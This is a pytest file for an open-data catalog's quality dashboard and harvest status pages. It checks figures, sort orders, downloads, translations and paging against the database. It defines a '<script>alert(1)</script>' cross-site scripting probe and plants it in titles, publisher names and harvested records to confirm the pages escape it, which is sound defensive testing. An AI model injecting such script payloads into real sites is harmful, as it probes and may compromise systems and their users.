"""The officials' dashboard and the harvest status pages on the demo catalog, harvested and assessed for real.

The samples are harvested through the harvesters, their files served by a local server and assessed twice,
a week apart (so trends have two weeks and the league table a change), with usage counted on two datasets
and one dataset whose publisher's name is markup. Every figure is checked against the database, and each
download against the HTML table it stands for, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import func, select

from app.assessment import assess_datasets
from app.services.usage import record_usage
from catalog_schema import search
from catalog_schema.models import Assessment, Dataset, HarvestJob, HarvestRecord, HarvestSource
from catalog_schema.record import new_distribution, new_record
from catalog_schema.store import save_record
from tests.support.samples import harvested_samples

NOW = dt.datetime(2026, 11, 23, 12, 0, tzinfo=dt.UTC)
WEEK_BEFORE = NOW - dt.timedelta(days=7)
XSS = "<script>alert(1)</script>"
XSS_ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"


@pytest.fixture
def catalog(snapshot, runtime, app):
    """Built once per backend, a copy for each test."""
    return snapshot.once(lambda: _build(runtime))


def _build(runtime) -> dict:
    with harvested_samples(runtime) as (files, summaries):
        assert all(s["status"] == "finished" for s in summaries.values()), summaries
        base = files.url("/")
        with runtime.sessionmaker() as session:
            rec = new_record(slug="markup-title", title={"zh": XSS, "en": XSS}, license="CC-BY-4.0",
                             publisher={"slug": "markup-dept", "name": {"en": XSS, "zh": XSS}},
                             distributions=[new_distribution(format="CSV", download_url=base + "nowhere.csv")])
            ds, _ = save_record(session, rec)
            search.index_dataset(session, ds)
            session.commit()
            ids = list(session.scalars(select(Dataset.id)))
        assess_datasets(runtime, ids, now=WEEK_BEFORE)
        assess_datasets(runtime, ids, now=NOW)
    with runtime.sessionmaker() as session:
        slugs = {ds.slug: ds.id for ds in session.scalars(select(Dataset))}
        record_usage(session, slugs["bus-stops"], "download", n=7)
        record_usage(session, slugs["bus-stops"], "view", n=20)
        record_usage(session, slugs["taxi-fares"], "download", n=3)
        session.commit()
    return slugs


class Tables(HTMLParser):
    """Every <table id=...> of a page: rows of (attributes of the row, [(cell attributes, cell text)])."""

    def __init__(self, html: str):
        super().__init__()
        self.tables: dict[str, list[tuple[dict, list[tuple[dict, str]]]]] = {}
        self._table = None
        self._row = None
        self._cell = None
        self._in_body = False
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "table" and attrs.get("id"):
            self._table = self.tables.setdefault(attrs["id"], [])
        elif tag == "tbody":
            self._in_body = True
        elif tag == "tr" and self._table is not None and self._in_body:
            self._row = (attrs, [])
            self._table.append(self._row)
        elif tag in ("td", "th") and self._row is not None:
            self._cell = [attrs, ""]

    def handle_endtag(self, tag):
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row[1].append((self._cell[0], self._cell[1].strip()))
            self._cell = None
        elif tag == "tr":
            self._row = None
        elif tag == "tbody":
            self._in_body = False
        elif tag == "table":
            self._table = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell[1] += data


def _html(client, url: str) -> str:
    resp = client.get(url)
    assert resp.status_code == 200, (url, resp.status_code)
    assert resp.mimetype == "text/html"
    return resp.get_data(as_text=True)


def _csv(client, url: str) -> list[dict[str, str]]:
    resp = client.get(url)
    assert resp.status_code == 200, url
    assert resp.mimetype == "text/csv"
    assert "attachment" in resp.headers["Content-Disposition"]
    body = resp.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def _json(client, url: str) -> dict:
    resp = client.get(url)
    assert resp.status_code == 200, url
    assert resp.mimetype == "application/json"
    return json.loads(resp.get_data(as_text=True))


def _latest(runtime) -> dict[str, Assessment]:
    with runtime.sessionmaker() as session:
        rows = session.execute(select(Dataset.slug, Assessment).join(Assessment, Assessment.dataset_id == Dataset.id)
                               .order_by(Assessment.assessed_at, Assessment.id)).all()
        session.expunge_all()
    return {slug: a for slug, a in rows}  # the last one per slug wins


def test_dashboard_shows_every_figure_in_both_languages(client, catalog, runtime):
    latest = _latest(runtime)
    zh = _html(client, "/dashboard?lang=zh_CN")
    en = _html(client, "/dashboard?lang=en")
    assert '<html lang="zh-CN">' in zh and '<html lang="en">' in en
    assert "<h1>Quality dashboard</h1>" in en and "<h1>质量看板</h1>" in zh
    assert "部门排行榜" in zh and "Publisher league table" in en
    assert "京海市交通委员会" in zh and "Jinghai Municipal Transport Commission" in en
    for html in (zh, en):
        tables = Tables(html).tables
        # The star distribution counts every dataset's latest assessment.
        counts = [int(cells[1][1]) for _attrs, cells in tables["stars-table"]]
        assert counts == [sum(1 for a in latest.values() if a.stars == s) for s in range(6)]
        assert sum(counts) == len(catalog)
        # The league table: one row per publisher with assessed datasets, dataset counts that add up.
        league = tables["league-table"]
        assert sum(int(cells[2][1]) for _a, cells in league) == len(catalog)
        assert "markup-dept" in [attrs["data-publisher"] for attrs, _c in league]
        # Two assessment rounds a week apart: two weeks in the whole catalog's trend, each of every dataset.
        trend = tables["trend-table"]
        assert [cells[0][1] for _a, cells in trend] == ["2026-11-16", "2026-11-23"]
        assert all(int(cells[1][1]) == len(catalog) for _a, cells in trend)
        # The chart library and the drawing script are served here, and each chart has its table.
        assert "/static/vendor/chartjs/chart.umd.min.js" in html and "/static/dashboard.js" in html
        for table_id in ("stars-table", "trend-table", "findings-table"):
            assert f'data-chart-for="{table_id}"' in html and f'id="{table_id}"' in html
        assert XSS not in html and XSS_ESCAPED in html
    assert client.get("/static/vendor/chartjs/chart.umd.min.js").status_code == 200
    assert client.get("/static/dashboard.js").status_code == 200


def test_findings_and_fix_first_come_from_the_latest_assessments(client, catalog, runtime):
    latest = _latest(runtime)
    findings = _json(client, "/dashboard/findings.json?lang=en")["rows"]
    expected = {}
    for a in latest.values():
        for t in {f["type"] for f in a.findings}:
            expected[t] = expected.get(t, 0) + 1
    assert {r["type"]: r["datasets"] for r in findings} == expected
    # most severe first (an ID-number leak in one dataset before a missing keyword in many), then most datasets
    rank = {"error": 0, "warning": 1, "info": 2}
    keys = [(rank[r["severity"]], -r["datasets"]) for r in findings]
    assert keys == sorted(keys)
    assert "link-broken" in expected  # the markup dataset's file is not there

    rows = _json(client, "/dashboard/fix-first.json")["rows"]
    usage = {"bus-stops": 27, "taxi-fares": 3}
    for r in rows:
        a = latest[r["slug"]]
        assert r["score"] == a.score and r["stars"] == a.stars
        assert r["priority"] == (usage.get(r["slug"], 0) + 1) * (100 - a.score)
    # personal data first (the public does not get those files as they are), then by priority
    flagged = [r for r in rows if r["personal_data"]]
    assert [r["slug"] for r in flagged] == ["citizen-hotline-complaints"] and rows[:1] == flagged
    assert flagged[0]["personal_data"].split() == ["bank_card", "email", "id_number", "phone"]
    rest = [r["priority"] for r in rows[1:]]
    assert rest == sorted(rest, reverse=True)
    bus = next(r for r in rows if r["slug"] == "bus-stops")
    assert bus["views"] == 20 and bus["downloads"] == 7


SORTS = [("rank", 0, False), ("average_stars", 3, True), ("share_3_plus", 4, True), ("score", 5, True),
         ("broken_links", 7, True), ("stale", 8, True)]


def test_league_table_sorts_and_its_downloads_match(client, catalog):
    for sort, column, descending in SORTS:
        _check_sorted_league(client, sort, column, descending)


def test_sorted_by_offers_every_sort_the_table_has(client, catalog):
    """The line above the league table offered 6 of its 9 sorts: sorted by datasets, metadata points or personal
    data (from a column header), it named none of its choices as the one in force."""
    from app.dashboard_data import LEAGUE_SORTS

    for current in LEAGUE_SORTS:
        html = _html(client, f"/dashboard?sort={current}&lang=en")
        line = html[html.index("Sorted by"):]
        line = line[:line.index("</p>")]
        offered = set(re.findall(r"[?&]sort=(\w+)#h-league", line))
        assert offered == set(LEAGUE_SORTS) - {current}, (current, offered)
        assert line.count('aria-current="true"') == 1, line


def _check_sorted_league(client, sort: str, column: int, descending: bool) -> None:
    html = _html(client, f"/dashboard?sort={sort}&lang=en")
    league = Tables(html).tables["league-table"]
    raw = [cells[column][0]["data-value"] for _a, cells in league]
    # publishers with nothing assessed have no figure (and no rank): listed last, whatever the sort
    values = [float(v) for v in raw if v != ""]
    assert raw == [v for v in raw if v != ""] + [v for v in raw if v == ""]
    assert values == sorted(values, reverse=descending)
    assert len(set(values)) > 1 or sort in ("broken_links", "stale")
    order = [attrs["data-publisher"] for attrs, _c in league]
    rows = _csv(client, f"/dashboard/league.csv?sort={sort}&lang=en")
    assert [r["publisher"] for r in rows] == order
    by_publisher = {attrs["data-publisher"]: cells for attrs, cells in league}
    for r in rows:
        cells = by_publisher[r["publisher"]]
        assert r["name"] == cells[1][1]
        assert r["rank"] == cells[0][0]["data-value"] and int(r["datasets"]) == int(cells[2][1])
        assert r["average_stars"] == cells[3][0]["data-value"]
        assert r["share_3_plus"] == cells[4][0]["data-value"]
        assert int(r["broken_links"]) == int(cells[7][1]) and int(r["stale"]) == int(cells[8][1])
        assert sum(int(r[f"stars_{s}"]) for s in range(6)) == int(r["datasets"])
    doc = _json(client, f"/dashboard/league.json?sort={sort}&lang=en")
    assert [r["publisher"] for r in doc["rows"]] == order
    assert doc["columns"][:3] == ["rank", "publisher", "name"]
    assert f'aria-sort="{"ascending" if sort == "rank" else "descending"}"' in html


def test_every_table_downloads_as_csv_and_json_matching_the_page(client, catalog):
    html = _html(client, "/dashboard?lang=zh_CN")
    tables = Tables(html).tables
    stars = _csv(client, "/dashboard/stars.csv")
    assert [int(r["datasets"]) for r in stars] == [int(c[1][1]) for _a, c in tables["stars-table"]]
    assert _json(client, "/dashboard/stars.json")["rows"] == [
        {"stars": int(r["stars"]), "datasets": int(r["datasets"]), "share": float(r["share"])} for r in stars]
    findings = _csv(client, "/dashboard/findings.csv?lang=zh_CN")
    assert [r["type"] for r in findings] == [a["data-type"] for a, _c in tables["findings-table"]]
    assert [r["title"] for r in findings] == [c[0][1] for _a, c in tables["findings-table"]]
    fix = _csv(client, "/dashboard/fix-first.csv?lang=zh_CN")
    listed = [a["data-slug"] for a, _c in tables["fix-first-table"]]
    assert [r["slug"] for r in fix][:len(listed)] == listed  # the page the first 20, the downloads all, said so
    assert len(fix) == len(listed) or 'id="fix-first-cut"' in html
    trends = _json(client, "/dashboard/trends.json")
    overall = [r for r in trends["rows"] if r["publisher"] == ""]
    assert [r["period"] for r in overall] == [c[0][1] for _a, c in tables["trend-table"]]
    assert [str(r["average_score"]) for r in overall] == [c[2][1] for _a, c in tables["trend-table"]]
    publishers = {r["publisher"] for r in trends["rows"]} - {""}
    assert "jh-transport" in publishers
    assert len(_csv(client, "/dashboard/trends.csv")) == len(trends["rows"])
    assert client.get("/dashboard/nothing.csv").status_code == 404


def test_publisher_drilldown_and_its_downloads(client, catalog, runtime):
    latest = _latest(runtime)
    with runtime.sessionmaker() as session:
        own = {ds.slug for ds in session.scalars(select(Dataset))
               if ds.publisher and ds.publisher.slug == "jh-transport"}
    assert own
    for lang, name in (("zh_CN", "京海市交通委员会"), ("en", "Jinghai Municipal Transport Commission")):
        html = _html(client, f"/dashboard/publisher/jh-transport?lang={lang}")
        assert f"<h1>{name}</h1>" in html
        rows = Tables(html).tables["publisher-datasets-table"]
        assert {a["data-slug"] for a, _c in rows} == own
        scores = [int(c[2][1]) for _a, c in rows]
        assert scores == sorted(scores)
        assert scores == sorted(latest[s].score for s in own)
    data = _csv(client, "/dashboard/publisher/jh-transport.csv")
    assert {r["slug"] for r in data} == own
    doc = _json(client, "/dashboard/publisher/jh-transport.json?lang=en")
    assert doc["name"] == "Jinghai Municipal Transport Commission" and doc["league"]["datasets"] == len(own)
    assert sum(r["datasets"] for r in doc["stars"]) == len(own)
    assert [r["period"] for r in doc["trends"]] == ["2026-11-16", "2026-11-23"]
    assert all(r["assessments"] == len(own) for r in doc["trends"])
    html = _html(client, "/dashboard/publisher/markup-dept")
    assert XSS not in html and XSS_ESCAPED in html
    assert client.get("/dashboard/publisher/no-such-dept").status_code == 404
    assert client.get("/dashboard/publisher/no-such-dept.json").status_code == 404


def test_harvest_status_lists_sources_jobs_and_escaped_original_records(client, catalog, runtime):
    with runtime.sessionmaker() as session:
        sources = session.scalars(select(HarvestSource)).all()
        job = session.scalars(select(HarvestJob).order_by(HarvestJob.id.desc())).first()
        payload = '{"title": "' + XSS + '", "notes": "' + "长" * 5000 + '"}'
        session.add(HarvestRecord(job_id=job.id, remote_id="broken-1", status="errored", stage="import",
                                  error="title: " + XSS, payload=payload))
        session.commit()
        expected = {s.name: max((j for j in s.jobs), key=lambda j: j.id) for s in sources}
        expected = {name: (j.id, j.status, j.added) for name, j in expected.items()}
        job_id, source_name = job.id, job.source.name
    said = {"zh_CN": {"finished": "已完成", "failed": "失败"}, "en": {"finished": "finished", "failed": "failed"}}
    for lang in ("zh_CN", "en"):
        html = _html(client, f"/harvest?lang={lang}")
        rows = Tables(html).tables["sources-table"]
        assert {a["data-source"] for a, _c in rows} == set(expected)
        for attrs, cells in rows:
            jid, status, added = expected[attrs["data-source"]]
            assert cells[4][1].startswith(f"#{jid}") and int(cells[6][1]) == added
            assert cells[5][1] == said[lang][status]  # the status in the page's language
            assert cells[2][1] and not cells[2][1].startswith("jh-")  # the publisher by its name, not its slug
    html = _html(client, f"/harvest/job/{job_id}")
    assert source_name in html and "broken-1" in html
    assert XSS not in html and XSS_ESCAPED in html
    assert html.count("长") == 4000 - payload.index("长")  # the first 4,000 characters of the record
    assert client.get("/harvest/job/999999").status_code == 404


def test_recent_jobs_say_how_many_records_were_unchanged(client, catalog, runtime):
    """The recent jobs under /harvest said "finished (added 0, updated 0, withdrawn 0, errors 0)" of a re-harvest
    that found every record unchanged, as if it had read nothing; the sources table above gave the unchanged count."""
    with runtime.sessionmaker() as session:
        job = session.scalars(select(HarvestJob).order_by(HarvestJob.id.desc())).first()
        job.unchanged = 37
        session.commit()
        job_id = job.id
    for lang, word in (("zh_CN", "未变化"), ("en", "unchanged")):  # 未变化, as the sources table says
        html = _html(client, f"/harvest?lang={lang}")
        recent = html[html.index('id="h-recent"'):]
        item = recent[recent.index(f"#{job_id} "):].split("</li>")[0]
        assert f"{word} 37" in item, item


def test_a_job_page_shows_every_errored_record_a_page_at_a_time(client, catalog, runtime, monkeypatch):
    from app.web import harvest as harvest_view

    monkeypatch.setattr(harvest_view, "RECORDS_SHOWN", 2)
    with runtime.sessionmaker() as session:
        job = session.scalars(select(HarvestJob).order_by(HarvestJob.id.desc())).first()
        job_id = job.id
        for i in range(5):
            session.add(HarvestRecord(job_id=job_id, remote_id=f"bad-{i}", status="errored", stage="import",
                                      error=f"problem {i}"))
        session.commit()
        errored = session.scalar(select(func.count()).select_from(HarvestRecord).where(
            HarvestRecord.job_id == job_id, HarvestRecord.status == "errored"))
    pages = -(-errored // 2)
    seen = []
    for page in range(1, pages + 1):
        html = _html(client, f"/harvest/job/{job_id}?page={page}&lang=en")
        seen += re.findall(r'<h3 id="rec-\d+">([^<]+)</h3>', html)
        first = (page - 1) * 2 + 1
        assert f"Records {first} to {min(first + 1, errored)} of {errored}" in html
        assert ('rel="next"' in html) == (page < pages) and ('rel="prev"' in html) == (page > 1)
    assert len(seen) == errored and len(set(seen)) == errored and {f"bad-{i}" for i in range(5)} <= set(seen)
    chinese = _html(client, f"/harvest/job/{job_id}?lang=zh_CN")
    assert "共 " + str(errored) + " 条" in chinese
    # the heading and each record's stage with the Chinese colon (采集任务 #41: tjj, 阶段: 收集 had an ASCII one)
    assert f"<h1>采集任务 #{job_id}： <a" in chinese and "<p>阶段：导入</p>" in chinese
    english = _html(client, f"/harvest/job/{job_id}?lang=en")
    assert f"<h1>Harvest job #{job_id}: <a" in english and "<p>Stage: import</p>" in english
    last = _html(client, f"/harvest/job/{job_id}?page=999999999&lang=en")  # past the end, or not a number
    assert f"of {errored}" in last and _html(client, f"/harvest/job/{job_id}?page=x").count('<h3 id="rec-') == 2


class Lists(HTMLParser):
    """The <li> items of every <section id=...>: (attributes of the item, its link or None, its text)."""

    def __init__(self, html: str):
        super().__init__()
        self.sections: dict[str, list[tuple[dict, str | None, str]]] = {}
        self._section = None
        self._item = None
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section":
            self._section = self.sections.setdefault(attrs.get("id") or "", [])
        elif tag == "li" and self._section is not None:
            self._item = [attrs, None, ""]
        elif tag == "a" and self._item is not None:
            self._item[1] = attrs.get("href")

    def handle_endtag(self, tag):
        if tag == "li" and self._item is not None:
            self._section.append((self._item[0], self._item[1], self._item[2].strip()))
            self._item = None
        elif tag == "section":
            self._section = None

    def handle_data(self, data):
        if self._item is not None:
            self._item[2] += data


def test_harvest_source_report_page_after_two_real_harvests(client, runtime, add_source, local_server, fixtures_dir,
                                                            monkeypatch):
    """A CKAN source harvested twice: the report page gives the database's figures in both languages, links
    what the latest job added, updated and withdrawn, groups its errors by kind, and escapes source text."""
    from app.web import harvest as harvest_view
    from catalog_schema.record import pick_text
    from tests.support import two_harvests as th

    th.two_harvests(runtime, add_source, local_server, fixtures_dir)
    with runtime.sessionmaker() as session:
        jobs = session.scalars(select(HarvestJob).order_by(HarvestJob.id.desc())).all()
        figures = {str(j.id): [j.added, j.updated, j.unchanged, j.withdrawn, j.errored] for j in jobs}
        rows = session.execute(select(HarvestRecord.remote_id, HarvestRecord.status, HarvestRecord.stage,
                                      HarvestRecord.error, Dataset.slug, Dataset.title)
                               .outerjoin(Dataset, Dataset.id == HarvestRecord.dataset_id)
                               .where(HarvestRecord.job_id == jobs[0].id).order_by(HarvestRecord.id)).all()
    assert [figures[str(j.id)] for j in jobs] == [[2, 1, 2, 1, 4], [4, 0, 0, 0, 2]]
    errors = {r.remote_id: r for r in rows if r.status == "errored"}
    for lang, heading in (("zh_CN", f"采集报告：{th.SOURCE}"), ("en", f"Harvest report: {th.SOURCE}")):
        html = _html(client, f"/harvest/source/{th.SOURCE}?lang={lang}")
        assert f"<h1>{heading}</h1>" in html and f"<title>{heading} · " in html  # Chinese punctuation in Chinese
        latest = jobs[0]  # the harvest page's recent jobs, one sentence in each language
        index = _html(client, f"/harvest?lang={lang}")
        assert (f"：已完成（新增 {latest.added}，更新 {latest.updated}，未变化 {latest.unchanged}，撤回 "
                f"{latest.withdrawn}，出错 {latest.errored}）" if lang == "zh_CN" else
                f": finished (added {latest.added}, updated {latest.updated}, unchanged {latest.unchanged}, "
                f"withdrawn {latest.withdrawn}, errors {latest.errored})") in index
        # the errored records' column is worded as the counts beside it and on the command line (出错): it said 错误
        errored = "出错" if lang == "zh_CN" else "Errored"
        for page in (html, index, _html(client, f"/harvest/job/{latest.id}?lang={lang}")):
            assert f'<th scope="col">{errored}</th>' in page or f'<th scope="row">{errored}</th>' in page
            assert ">错误</th>" not in page and ">Errors</th>" not in page
        table = Tables(html).tables["jobs-table"]
        assert [a["data-job"] for a, _c in table] == [str(j.id) for j in jobs]
        for attrs, cells in table:
            assert cells[0][1] == f"#{attrs['data-job']}" and [int(c) for _a, c in cells[4:]] == figures[
                attrs["data-job"]]
        lists = Lists(html).sections
        for key in ("added", "updated", "withdrawn"):
            expected = [r for r in rows if r.status in (("updated", "restored") if key == "updated" else (key,))]
            assert [r.remote_id for r in expected] == th.JOB2[key]
            assert [(a["data-remote-id"], href, text) for a, href, text in lists[f"changes-{key}"]] == [
                (r.remote_id, f"/dataset/{r.slug}", pick_text(r.title, lang[:2])) for r in expected]
        kinds = Tables(html).tables["error-kinds"]

        def said(text: str, lang: str = lang) -> str:
            """Our own errors said in the page's language from their msgid (Python's "ValueError" in neither); the
            kind's fixed text whole (its "\\u0000" is not a number to hide)."""
            zh = lang == "zh_CN"
            text = text.replace("ValueError: record does not match the catalog schema: ",
                                "记录不符合目录的数据模式：" if zh else "record does not match the catalog schema: ")
            nul = re.match(r"ValueError: (record\S*) holds a NUL character \(\\u(?:<n>|0000)\), which is not text$",
                           text)
            if nul:
                text = (f"{nul.group(1)} 含有 NUL 字符（\\u0000），不是文本" if zh
                        else f"{nul.group(1)} holds a NUL character (\\u0000), which is not text")
            return text

        stages = {"import": "导入"} if lang == "zh_CN" else {}  # the stage in the page's language too
        assert [(c[0][1], unescape(c[1][1]), int(c[2][1]), unescape(c[3][1])) for _a, c in kinds] == [
            (stages.get(stage, stage), said(kind), count, remote_id) for stage, kind, count, remote_id in th.JOB2_KINDS]
        assert [unescape(c[4][1]) for _a, c in kinds] == [said(errors[k[3]].error) for k in th.JOB2_KINDS]
        # markup from the source (a title, a remote id, an error message) is shown, never run
        assert XSS not in html and "<b>p9</b>" not in html
        assert f"New {XSS_ESCAPED}" in html and "&lt;b&gt;p9&lt;/b&gt;" in html
        assert f"[&#39;{XSS_ESCAPED}&#39;]" in html
    assert f'href="/harvest/source/{th.SOURCE}"' in _html(client, "/harvest")
    assert f'href="/harvest/source/{th.SOURCE}"' in _html(client, f"/harvest/job/{jobs[0].id}")
    monkeypatch.setattr(harvest_view, "TITLES_SHOWN", 1)
    for lang, more in (("en", "and 1 more"), ("zh_CN", "另有 1 个")):
        capped = _html(client, f"/harvest/source/{th.SOURCE}?lang={lang}")
        assert [a["data-remote-id"] for a, _h, _t in Lists(capped).sections["changes-added"]] == ["p7"]
        assert capped.count(more) == 1  # only the added list (two datasets) is longer than one
    assert client.get("/harvest/source/no-such-source").status_code == 404
    # the report's defaults and parameters are the REST resource's and the command's: ?jobs= and ?titles=
    one = _html(client, f"/harvest/source/{th.SOURCE}?jobs=1&titles=1&lang=en")
    assert one.count("<tr data-job=") == 1 and one.count("and 1 more") == 1
    assert _html(client, f"/harvest/source/{th.SOURCE}?jobs=x&lang=en").count("<tr data-job=") == len(jobs[:5])
    assert "withdrawn" in _html(client, "/harvest?lang=en").split('id="h-recent"')[1]
    add_source("idle", "ckan", "http://127.0.0.1:9/")
    assert "id=\"jobs-table\"" not in _html(client, "/harvest/source/idle?lang=en")


def test_every_dashboard_and_harvest_string_is_translated():
    from babel.messages.extract import DEFAULT_KEYWORDS, extract_from_dir
    from babel.messages.mofile import read_mo

    root = Path(__file__).resolve().parents[2] / "app"
    method_map = [("templates/dashboard/**.html", "jinja2"), ("templates/dashboard/**.txt", "jinja2"),
                  ("templates/harvest/**.html", "jinja2"), ("web/harvest.py", "python"), ("web/weekly.py", "python")]
    keywords = {**DEFAULT_KEYWORDS, "_l": None, "lazy_gettext": None}
    ids = {m if isinstance(m, str) else m[0] for _f, _l, m, *_ in extract_from_dir(str(root), method_map,
                                                                                  keywords=keywords)}
    assert len(ids) > 50
    with open(root / "translations" / "zh" / "LC_MESSAGES" / "messages.mo", "rb") as fh:
        mo = read_mo(fh)
    assert sorted(m for m in ids if not (mo.get(m) and mo.get(m).string)) == []


def test_findings_are_ordered_by_severity_and_lead_to_their_datasets(client, catalog, runtime):
    latest = _latest(runtime)
    for lang in ("zh_CN", "en"):
        html = _html(client, f"/dashboard?lang={lang}")
        rows = Tables(html).tables["findings-table"]
        severities = [a["data-severity"] for a, _c in rows]
        order = {"error": 0, "warning": 1, "info": 2}
        assert [order[s] for s in severities] == sorted(order[s] for s in severities)
        types = [a["data-type"] for a, _c in rows]
        # the ID-number and bank-card leaks (one dataset each) come before any info-level finding
        assert types.index("pii-id-number") < severities.index("info")
        assert types.index("pii-bank-card") < severities.index("info")
        for t in types:
            assert f'href="/dashboard/finding/{t}"' in html
    # following a row: exactly the datasets whose latest assessment has it, each once, by name
    info = types[severities.index("info")]
    for t in ("pii-id-number", "link-broken", info):
        expected = {slug for slug, a in latest.items() if any(f["type"] == t for f in a.findings)}
        assert expected
        for lang in ("zh_CN", "en"):
            page = _html(client, f"/dashboard/finding/{t}?lang={lang}")
            rows = Tables(page).tables["finding-datasets-table"]
            slugs = [a["data-slug"] for a, _c in rows]
            assert sorted(slugs) == sorted(expected) and len(slugs) == len(set(slugs))
            for attrs, cells in rows:
                assert f'href="/dataset/{attrs["data-slug"]}"' in page
                assert cells[1][1] not in ("", "jh-transport", "jh-gov-office")  # the publisher's name
        rows = _csv(client, f"/dashboard/finding/{t}.csv?lang=en")
        assert sorted(r["slug"] for r in rows) == sorted(expected)
        doc = _json(client, f"/dashboard/finding/{t}.json?lang=zh_CN")
        assert doc["type"] == t and sorted(r["slug"] for r in doc["rows"]) == sorted(expected)
    page = _html(client, "/dashboard/finding/pii-id-number?lang=zh_CN")
    assert "公开了居民身份证号码" in page and "京海市人民政府办公厅" in page
    # a publisher's own findings lead to its own datasets
    html = _html(client, "/dashboard/publisher/jh-transport?lang=en")
    own = [a["data-type"] for a, _c in Tables(html).tables["findings-table"]]
    assert own and all(f'href="/dashboard/finding/{t}?publisher=jh-transport"' in html for t in own)
    scoped_doc = _json(client, "/dashboard/finding/link-broken.json?publisher=jh-transport")
    scoped = scoped_doc["rows"]
    assert {r["publisher"] for r in scoped} <= {"jh-transport"}
    assert scoped_doc["fix"] is None and all(r["fix"] for r in scoped)  # each row its own fix, no empty general one
    assert client.get("/dashboard/finding/no-such-finding").status_code == 404
    assert client.get("/dashboard/finding/link-broken?publisher=no-such-dept").status_code == 404


def test_fix_first_names_publishers_and_shows_each_dataset_once(client, catalog):
    for lang, name in (("zh_CN", "京海市交通委员会"), ("en", "Jinghai Municipal Transport Commission")):
        html = _html(client, f"/dashboard?lang={lang}")
        rows = Tables(html).tables["fix-first-table"]
        titles = [c[0][1] for _a, c in rows]
        publishers = [c[1][1] for _a, c in rows]
        assert "jh-transport" not in publishers and name in publishers
        slugs = [a["data-slug"] for a, _c in rows]
        # taxi-fares and taxi-fares-2026 are one dataset published twice: one row, linking to both
        assert len([s for s in slugs if s.startswith("taxi-fares")]) == 1
        taxi = next(c for a, c in rows if a["data-slug"].startswith("taxi-fares"))
        assert "taxi-fares" in taxi[0][1] and 'href="/dataset/taxi-fares-2026"' in html
        assert len(titles) == len(set(t.split("\n")[0] for t in titles))
        downloads = Tables(html).tables["downloads-table"]
        assert [c[1][1] for a, c in downloads if a["data-slug"] == "bus-stops"] == [name]
    rows = _csv(client, "/dashboard/fix-first.csv?lang=en")
    taxi = next(r for r in rows if r["slug"].startswith("taxi-fares"))
    assert sorted([taxi["slug"], taxi["copies"]]) == ["taxi-fares", "taxi-fares-2026"]
    assert taxi["publisher_name"] == "Jinghai Municipal Transport Commission"


def test_every_publisher_is_listed_with_zero_and_downloads_counted(client, catalog, runtime):
    from catalog_schema.store import ensure_publisher

    with runtime.sessionmaker() as session:
        ensure_publisher(session, {"slug": "jh-archives", "name": {"zh": "京海市档案局", "en": "Jinghai Archives"}})
        session.commit()
    for lang, name, note in (("zh_CN", "京海市档案局", "数据集为 0 的部门"), ("en", "Jinghai Archives",
                                                                     "A publisher with 0 datasets")):
        html = _html(client, f"/dashboard?lang={lang}")
        league = Tables(html).tables["league-table"]
        row = next(cells for attrs, cells in league if attrs["data-publisher"] == "jh-archives")
        assert row[1][1] == name and row[2][1] == "0" and row[0][1] == "–"
        assert league[-1][0]["data-publisher"] == "jh-archives" or league[-1][1][2][1] == "0"
        assert note in html
        transport = next(cells for attrs, cells in league if attrs["data-publisher"] == "jh-transport")
        assert transport[11][1] == "10"  # bus-stops 7 + taxi-fares 3, as the gate counted them
        own = _html(client, f"/dashboard/publisher/jh-transport?lang={lang}")
        assert '<span data-figure="downloads">10</span>' in own
        drill = _html(client, f"/dashboard/publisher/jh-archives?lang={lang}")
        assert ("尚无已评估的数据集" if lang == "zh_CN" else "No assessed datasets yet: this publisher") in drill
    rows = _csv(client, "/dashboard/league.csv")
    archives = next(r for r in rows if r["publisher"] == "jh-archives")
    assert archives["datasets"] == "0" and archives["rank"] == "" and archives["downloads"] == "0"


def test_empty_states_say_why(client, runtime):
    for lang, sentences in (
        ("en", ["No publishers yet: publishers appear here", "No assessments yet: the trend starts",
                "No findings: no assessed dataset lost a point yet", "Nothing to fix: every assessed dataset",
                "No downloads recorded yet: a download is counted"]),
        ("zh_CN", ["尚无部门", "尚无评估：第一次评估后开始显示趋势", "没有问题", "没有需要修复的", "尚无下载记录"]),
    ):
        html = _html(client, f"/dashboard?lang={lang}")
        for sentence in sentences:
            assert sentence in html, sentence
        assert 'data-chart-for="trend-table"' not in html  # no empty chart
        weekly = _html(client, f"/dashboard/weekly?lang={lang}")
        assert ("尚无每周报告" if lang == "zh_CN" else "No weekly report yet") in weekly
    # one week of assessments: the trend says why it draws no line
    with runtime.sessionmaker() as session:
        rec = new_record(slug="one-week", title={"en": "One week", "zh": "一周"}, license="CC-BY-4.0",
                         publisher={"slug": "new-dept", "name": {"en": "New department", "zh": "新部门"}},
                         distributions=[new_distribution(format="CSV", download_url="http://127.0.0.1:9/x.csv")])
        ds, _ = save_record(session, rec)
        search.index_dataset(session, ds)
        session.commit()
        ds_id = ds.id
    assess_datasets(runtime, [ds_id], now=NOW, check_links=False)
    for lang, sentence in (("en", "Only one week of assessments so far (week of 2026-11-23)"),
                           ("zh_CN", "目前只有一周的评估（2026-11-23 当周）")):
        for url in ("/dashboard", "/dashboard/publisher/new-dept"):
            html = _html(client, f"{url}?lang={lang}")
            assert sentence in html and 'data-chart-for="trend-table"' not in html


def test_a_weeks_trend_counts_each_dataset_once_as_the_league_table_does(client, catalog, runtime):
    """A dataset assessed again in the same week counted twice in the week's averages: the trend read 1.43 stars
    where the league table said 1.4. Each dataset now counts by its latest assessment of the week."""
    again = _latest(runtime)["bus-stops"]
    with runtime.sessionmaker() as session:
        session.add(Assessment(**{c: getattr(again, c) for c in (
            "dataset_id", "rule_version", "metadata_points", "metadata_rating", "subscores", "data", "distributions",
            "findings")}, assessed_at=NOW + dt.timedelta(hours=1), stars=5, score=100))  # the same week, better
        publisher = session.get(Dataset, again.dataset_id).publisher.slug
        session.commit()
    doc = _json(client, f"/dashboard/publisher/{publisher}.json?lang=en")
    week = doc["trends"][-1]
    assert week["period"] == "2026-11-23" and week["datasets"] == doc["league"]["datasets"]
